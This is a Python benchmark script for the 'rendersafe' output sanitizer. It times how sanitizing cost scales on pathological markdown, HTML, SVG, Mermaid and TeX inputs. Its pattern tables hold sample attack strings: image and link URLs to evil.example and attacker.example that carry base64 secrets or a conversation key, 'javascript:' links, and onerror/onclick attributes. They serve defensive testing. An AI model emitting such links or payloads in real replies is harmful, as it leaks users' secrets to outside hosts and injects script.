"""Hostile inputs scale linearly: time each pattern at n and 4n characters.

    python benchmarks/pathological.py [--size N] [--rounds R] [--stream] [--hold H] [PATTERN ...]

Prints, per pattern, the CPU seconds at both sizes (medians) and the median and
spread (min-max) of the per-round ratio: a linear cost gives about 4, a quadratic
one 16. It measures CPU time (`time.process_time`), the two sizes interleaved round
by round and a fast pattern repeated to at least MIN_SAMPLE seconds a sample, so
that load from other processes on the machine neither shows up as time nor
inflates one size only.

A flood longer than `max_hold_chars` (8192) is cut into units, each sanitised on
its own, and the last unit of a flood is cheaper than the others (nothing forced
its cut, so no opener is escaped and nothing re-checked): with n = 1.5 units the
ratio compares one forced cut with six and reads 5 for a linear cost. The default
n = 65,536 is eight units, where that end effect is worth about 0.2 of the ratio,
and a per-call overhead far less. `--hold` changes the unit size (a large one
shows what one unit costs as it grows); `--stream` feeds 4-character chunks to
`Sanitizer().stream()` instead of calling `run()`. The patterns in `RENDERED` run
inside a fence the policy renders (or as math in prose). Timing stays out of the test
suite; the suite checks these inputs finish and come out safe.

Measured (compiled build, 9f6b8a5, defaults, 2 shared cores): every pattern's median
at most 4.5 (target); the worst `<&amp;` 4.44, `[` 4.12, `[](` 4.20 (issue 37 saw 5.18
and 5.56 on a busier machine). Instructions agree: under `valgrind --tool=callgrind`,
net of the interpreter's start and a warm-up, `[](` costs 9.22e9 at n and 38.75e9 at
4n (4.20x), `[` 12.89e9 and 52.46e9 (4.07x).
"""

from __future__ import annotations

import argparse
import math
import statistics
import time
from collections.abc import Callable

from rendersafe import Policy, Sanitizer
from rendersafe.conversation import Conversation, Message

EVIL = "![x](https://evil.example/x.png)"
PATTERNS = {
    "[": "[",
    "![[": "![[",
    "[](": "[](",
    "](( ": "]((",
    "**_* ": "**_* ",
    "backticks": "`",
    "<": "<",
    "&": "&",
    '<a x="': '<a x="',
    "http://": "http://",
    "nested quotes": ">",
    "list markers": "- ",
    "quote lines": "> >\n",
    "unclosed titles": '[](a "b "c "d) ',
    "image flood": EVIL + " ",
    "link flood": "[a](https://e.example/?d=aGVsbG8gd29ybGQgdGhpcyBpcyBhIHNlY3JldA) ",
    "table row": "| x ",
    "<<<": "<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<< x ",
    "< words": "< a ",
    "</": "</",
    "<!--": "<!--",
    "&amp;": "&amp;",
    "&#x": "&#x",
    "&#106;": "&#106;",
    "&lt;img": "&lt;img ",
    "<&amp;": "<&amp;&amp;&amp;&amp;&amp;&amp;&amp;&amp;&amp;&amp;&amp;&amp;&amp;&amp; ",
    "<<&amp;1": "<<&amp;&amp;1",
    "<img a=1": "<img " + "a=1 " * 40 + "> ",
    "attribute run": " a=1",
    "quoted attributes": ' a="1"',
    "open quotes": ' a="',
    "on* attributes": " onerror=x",
    "<img src=": "<img src=",
    "split destinations": "![s](ht\n",
    "split titles": '![s](ht\n"t\n',
    "autolink lines": "<https://e.example/\n",
    "nested dests": "[](",
    "- >": "- >",
    "> - ": "> - ",
    "<script ": "<script ",
    "paren titles": "![a](x (",
    "spaces after image": " \t",
    "open tag line": "= ",
    "opens before images": "[" * 100 + EVIL,
    # Inside fences the policy renders (`RENDERED`), and math in prose.
    "mermaid clicks": "click A call f()\n",
    "mermaid blank lines": "\n",  # what a forced cut reads back: white space, every cut
    "mermaid spaces": "  ",
    "mermaid <img": "<img src=x ",
    "mermaid %%{": "%%{",
    "svg <style": "<style>",
    "svg <a x=": '<a x="',
    "svg url(": "<a style='background:url(",
    "tex options": "\\includegraphics[",
    "tex groups": "{",
    "tex definitions": "\\def\\a{",
    "tex csname": "\\csname ",
    "$$ hrefs": "\\href{",
    "``` html runs": "```html\n<b>x</b>\n",
    # What the second line (`rendersafe.guard`) reads: tags inside tags and attribute
    # names, image openers before their slots, slots, attribute lists.
    "<a <a ": "<a <a ",
    "<a<a": "<a<a",
    "tags with links": '<b title="[t](u) ',
    "<a ![": "<a ![",
    '<a x="<a ': '<a x="<a ',
    "![ labels": "![a] ",
    "]( unopened": "](javascript:x) ",
    "]: lines": "[r]: javascript:x\n",
    "{: on": "{: onclick=x ",
    "{ bare on": "{ onclick ",
    "{x} lists": "{x} ",
    "<style <base": "<style <base <link ",
    # marko's declarations (a line from `<!` to the next `>`), an escaped `>` inside a tag,
    # quoted raw HTML in an image's open text.
    "<!x lines": "<!x\n",
    "<a\\> ": "<a\\> ",
    '![a <b title="': '![a <b title=" ',
    # mistune's raw-text openers, tags read with lines' starts taken off, definitions'
    # lines inside a tag, python-markdown's placeholder markers, definition blocks.
    "<pre' lines": "<pre'\n",
    "> <img lines": "> <img\n",
    "\\xa0 src= lines": "<a\n\u00a0src=x\n",
    "]: in tags": "<g src=\n[]:h\n",
    "STX": "<\x02a ",
    "definitions block": "[r1]: https://docs.python.org/3/\n",
}
RENDERED = {
    "mermaid clicks": "```mermaid\n",
    "mermaid blank lines": "```mermaid\n",
    "mermaid spaces": "```mermaid\n",
    "mermaid <img": "```mermaid\n",
    "mermaid %%{": "```mermaid\n",
    "svg <style": "```svg\n",
    "svg <a x=": "```svg\n",
    "svg url(": "```svg\n",
    "tex options": "```math\n",
    "tex groups": "```math\n",
    "tex definitions": "```math\n",
    "tex csname": "```math\n",
    "$$ hrefs": "",
    "``` html runs": "",
}
# A run after one opener, a run that closes what the pattern opened, what ends it.
OPENER = {
    "attribute run": "<img",
    "quoted attributes": "<img",
    "open quotes": "<img",
    "on* attributes": "<img",
    "spaces after image": "![a](x",
    "open tag line": "<a x",
}
NESTED = {"nested dests": ")", "tex groups": "}"}
# Patterns whose every repeat differs (its number in it): each definition is a unit,
# and each one carried to the units after it.
NUMBERED = {
    "definitions": "[r{}]: https://e.example/{}\n\n",
    "image labels": "![a][u{}] {}\n\n",
    "uses of definitions": "[r{}]: /d\n\n![a][r{}][\n\n",
    "off-list definitions": "[r{}]: https://attacker.example/{}?d=c2VjcmV0\n\n",
}
PATTERNS.update(dict.fromkeys(NUMBERED, ""))
# An earlier reply of the model made of the pattern, and a reply whose link holds part of
# a key the chat had: what the earlier turns sent of it is read (`conversation/sent.py`).
HISTORY = {"history a.a.": "a.", "history a-a-": "a-", "history //": "//x "}
PATTERNS.update(HISTORY)
KEY = "Q9xZ3vL7pW1a4fG7hK2m"
HISTORY_REPLY = f"[a](https://evil.example/p/{KEY[:10]})"
TAIL = {"open tag line": ">\n"}
MIN_SAMPLE = 0.25

Work = Callable[[Sanitizer, str], None]


def flood(name: str, size: int) -> str:
    """`size` characters of the pattern (a nested one closes what it opened)."""
    if name in NUMBERED:
        return _numbered(NUMBERED[name], size)
    unit, closer = PATTERNS[name], NESTED.get(name, "")
    count = size // (len(unit) + len(closer))
    opener = OPENER.get(name, "") + RENDERED.get(name, "")
    return opener + unit * count + closer * count + TAIL.get(name, "")


def _numbered(template: str, size: int) -> str:
    parts: list[str] = []
    length = 0
    while length + len(part := template.format(len(parts), len(parts))) <= size:
        parts.append(part)
        length += len(part)
    return "".join(parts)


def run_once(sanitizer: Sanitizer, text: str) -> None:
    sanitizer.run(text)


def stream_once(sanitizer: Sanitizer, text: str) -> None:
    stream = sanitizer.stream()
    for i in range(0, len(text), 4):
        stream.feed(text[i : i + 4])
    stream.close()


def history_once(sanitizer: Sanitizer, text: str) -> None:
    conversation = Conversation(
        [Message(0, "system", f"The key is {KEY}."), Message(1, "model", text)]
    )
    sanitizer.run(HISTORY_REPLY, conversation=conversation)


def cpu_seconds(work: Work, sanitizer: Sanitizer, text: str, calls: int) -> float:
    """CPU time of `calls` calls of `work(sanitizer, text)`, per call."""
    start = time.process_time()
    for _ in range(calls):
        work(sanitizer, text)
    return (time.process_time() - start) / calls


def measure(args: argparse.Namespace, name: str) -> tuple[float, float, list[float]]:
    """Median CPU seconds at n and 4n, and the ratio of each round."""
    size, rounds, stream = args.size, args.rounds, args.stream
    fences = ["html", "svg", "mermaid", "math", "$$"] if name in RENDERED else []
    policy = Policy(max_input_chars=10 * size * 4, max_hold_chars=args.hold, rendered_fences=fences)
    sanitizer = Sanitizer(policy)
    work = history_once if name in HISTORY else stream_once if stream else run_once
    small, large = flood(name, size), flood(name, 4 * size)
    # Warm caches, and repeat a fast pattern so that one sample at n takes at least
    # MIN_SAMPLE seconds: a few milliseconds are mostly noise on a shared machine.
    calls = max(1, math.ceil(MIN_SAMPLE / max(cpu_seconds(work, sanitizer, small, 1), 1e-4)))
    smalls, larges = [], []
    for _ in range(rounds):
        smalls.append(cpu_seconds(work, sanitizer, small, calls))
        larges.append(cpu_seconds(work, sanitizer, large, calls))
    ratios = [lg / sm if sm else float("nan") for sm, lg in zip(smalls, larges, strict=True)]
    return statistics.median(smalls), statistics.median(larges), ratios


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("patterns", nargs="*", help="names of patterns to run (default all)")
    parser.add_argument("--size", type=int, default=65_536, help="n, in characters")
    parser.add_argument("--rounds", type=int, default=5, help="interleaved rounds of n and 4n")
    parser.add_argument("--stream", action="store_true", help="4-char chunks through stream()")
    parser.add_argument("--hold", type=int, default=8192, help="max_hold_chars (unit size)")
    args = parser.parse_args()
    names = args.patterns or list(PATTERNS)
    front = "stream(), 4-char chunks" if args.stream else "run()"
    print(f"n = {args.size}, max_hold_chars = {args.hold}, {args.rounds} rounds, {front}")
    print(f"{'pattern':20} {'t(n)':>8} {'t(4n)':>8} {'ratio':>6}  spread")
    worst = ("", 0.0)
    for name in names:
        t_small, t_large, ratios = measure(args, name)
        ratio = statistics.median(ratios)
        worst = max(worst, (name, ratio), key=lambda w: w[1])
        spread = f"{min(ratios):.1f}-{max(ratios):.1f}"
        print(f"{name:20} {t_small:8.3f} {t_large:8.3f} {ratio:6.2f}  {spread}", flush=True)
    print(f"worst median ratio: {worst[0]} {worst[1]:.2f}")


if __name__ == "__main__":
    main()
